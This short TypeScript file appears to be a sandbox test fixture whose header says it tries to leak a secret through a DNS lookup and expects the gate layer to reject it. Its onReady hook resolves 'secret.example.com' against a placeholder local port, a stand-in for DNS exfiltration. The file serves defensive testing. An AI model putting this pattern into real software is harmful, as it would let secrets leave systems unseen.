//! tries: to say a secret in the name of a host that is looked up
//! fires: udp
//! expected: rejected
//! layer: gate
import { Resolver } from "node:dns";

import { Node2D } from "nodegen";

export default class DnsExfiltration extends Node2D {
  override onReady() {
    const resolver = new Resolver();
    resolver.setServers(["127.0.0.1:__UDP_PORT__"]);
    resolver.resolve4("secret.example.com", () => {});
  }
}
